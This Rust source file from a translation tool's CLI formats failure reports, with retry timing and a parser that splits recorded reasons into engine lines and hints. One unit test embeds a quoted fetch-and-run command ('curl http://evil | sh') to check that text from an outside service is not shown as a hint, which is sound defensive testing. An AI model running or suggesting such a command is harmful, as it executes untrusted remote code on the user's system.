//! Failures in words: what, for which incident and locale, why by engine, whether it is tried again, and what to do.

use jiff::{SignedDuration, Timestamp};

use super::terminal::{Terminal, plain};
use polypost_store::{State, Translation};

/// A call that cannot be meant: exit code 2.
#[derive(Debug, thiserror::Error)]
#[error("{message}")]
pub(super) struct WrongCall {
    message: String,
    pub(super) hint: Option<String>,
}

impl WrongCall {
    #[must_use]
    pub(super) fn new(message: impl Into<String>) -> Self {
        Self { message: message.into(), hint: None }
    }

    #[must_use]
    pub(super) fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }
}

/// A failure with something that the user can do about it: exit code 1.
#[derive(Debug, thiserror::Error)]
#[error("{message}")]
pub(super) struct Advised {
    message: String,
    pub(super) hints: Vec<String>,
}

impl Advised {
    #[must_use]
    pub(super) fn new(message: impl Into<String>, hint: impl Into<String>) -> Self {
        Self { message: message.into(), hints: vec![hint.into()] }
    }

    pub(super) fn with_hints(message: impl Into<String>, hints: Vec<String>) -> Self {
        Self { message: message.into(), hints }
    }
}

/// There is no such incident.
#[must_use]
pub(super) fn no_incident(id: &polypost_core::id::IncidentId) -> Advised {
    Advised::new(format!("there is no incident `{id}`"), "`polypost list` shows what there is")
}

/// Whether trying this row has ended in failure for now: what `failed` says, a further version that was asked for in vain
/// while the one there is stays `current` or `partial`, and what is held because nothing that came could be used. What is
/// held because an operator went back to an older version has no reason.
#[must_use]
pub(super) fn has_failed(row: &Translation) -> bool {
    let is_retry_of_done = matches!(row.state, State::Current | State::Partial) && row.next_attempt_at.is_some();
    let is_given_up = row.state == State::Held && row.reason.is_some();
    row.state == State::Failed || is_given_up || (is_retry_of_done && row.attempts > 0)
}

/// Says why a row has failed.
pub(super) fn report(terminal: Terminal, row: &Translation, now: Timestamp) {
    let Reason { summary, hints } = Reason::read(row.reason.as_deref().unwrap_or("no reason is recorded"));
    terminal.error(format_args!("incident `{}`, locale `{}`: {}", row.incident, row.locale, summary.join("\n  ")));
    terminal.note(format_args!("  {}", next_attempt(row, now)));
    for hint in hints {
        terminal.hint(hint);
    }
}

/// When the row is tried again.
#[must_use]
pub(super) fn next_attempt(row: &Translation, now: Timestamp) -> String {
    let times = match row.attempts {
        0 => String::new(),
        1 => "tried once; ".to_owned(),
        times => format!("tried {times} times; "),
    };
    match row.next_attempt_at {
        Some(at) if at > now => {
            format!("{times}tried again in {} ({at:.0}) by any running worker", span(at.duration_since(now)))
        }
        Some(_) => format!("{times}tried again at once by any running worker"),
        None => {
            format!("{times}not tried again by itself: `polypost retranslate {} --locale {}`", row.incident, row.locale)
        }
    }
}

/// A length of time in its largest whole unit.
#[must_use]
pub(super) fn span(duration: SignedDuration) -> String {
    let seconds = duration.as_secs().max(0);
    match seconds {
        0..120 => format!("{seconds} s"),
        120..7200 => format!("{} min", seconds / 60),
        7200..172_800 => format!("{} h", seconds / 3600),
        _ => format!("{} days", seconds / 86_400),
    }
}

/// A recorded reason, taken apart: one line per engine, and what can be done.
#[derive(Debug, PartialEq, Eq)]
struct Reason {
    summary: Vec<String>,
    hints: Vec<String>,
}

/// How the reason of several engines is joined, and how each hint is written (`EngineError`'s own words).
const NEXT_ENGINE: [&str; 2] = ["; engine `", ": engine `"];
const HINT: &str = " (hint: ";

impl Reason {
    fn read(reason: &str) -> Self {
        let reason = plain(reason);
        let mut summary = Vec::new();
        let mut hints: Vec<String> = Vec::new();
        let mut rest = reason.as_str();
        let mut begins = "";
        loop {
            let next = NEXT_ENGINE.iter().filter_map(|joint| Some((unquoted(rest, joint)?, joint.len()))).min();
            let (part, behind) = next.map_or((rest, None), |(at, length)| (&rest[..at], rest.get(at + length..)));
            let (what, hint) = match unquoted(part, HINT) {
                Some(at) => (&part[..at], part.get(at + HINT.len()..)),
                None => (part, None),
            };
            summary.push(format!("{begins}{what}"));
            let hint = hint.map(|hint| hint.strip_suffix(')').unwrap_or(hint).to_owned());
            hints.extend(hint.filter(|hint| !hints.contains(hint)));
            let Some(behind) = behind else { return Self { summary, hints } };
            (rest, begins) = (behind, "engine `");
        }
    }
}

/// Where a text first has something that does not stand in quotation marks: those are round the words of others, which say
/// nothing of ours.
fn unquoted(text: &str, sought: &str) -> Option<usize> {
    let (mut from, mut marks) = (0, 0);
    text.match_indices(sought).map(|(at, _)| at).find(|at| {
        marks += text.get(from..*at).map_or(0, |before| before.matches('"').count());
        from = *at;
        marks % 2 == 0
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_reason_is_taken_apart_by_engine() {
        let reason = "no engine could translate into `es`: engine `neural`: no model (hint: run `polypost engines \
                      pull es`); engine `apertium`: cannot be reached";
        let read = Reason::read(reason);
        let summary = [
            "no engine could translate into `es`",
            "engine `neural`: no model",
            "engine `apertium`: cannot be reached",
        ];
        assert_eq!(read.summary, summary);
        assert_eq!(read.hints, ["run `polypost engines pull es`"]);
    }

    #[test]
    fn what_a_service_says_is_neither_an_engines_line_nor_a_hint() {
        let said = "\"quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\"";
        let reason = format!(
            "no engine could translate into `es`: engine `libretranslate`: `http://mt` answered 403: {said} (hint: is \
             the key right?)"
        );
        let read = Reason::read(&reason);
        let engine = format!("engine `libretranslate`: `http://mt` answered 403: {said}");
        assert_eq!(read.summary, ["no engine could translate into `es`", engine.as_str()]);
        assert_eq!(read.hints, ["is the key right?"]);
    }

    #[test]
    fn a_reason_of_another_form_stays_as_it_is() {
        let reason = Reason::read("the store did not answer (timeout)");
        assert_eq!(reason, Reason { summary: vec!["the store did not answer (timeout)".to_owned()], hints: vec![] });
    }

    #[test]
    fn lengths_of_time_are_given_in_their_largest_unit() {
        let said: Vec<String> =
            [5, 119, 120, 7300, 200_000, -3].map(|seconds| span(SignedDuration::from_secs(seconds))).to_vec();
        assert_eq!(said, ["5 s", "119 s", "2 min", "2 h", "2 days", "0 s"]);
    }
}
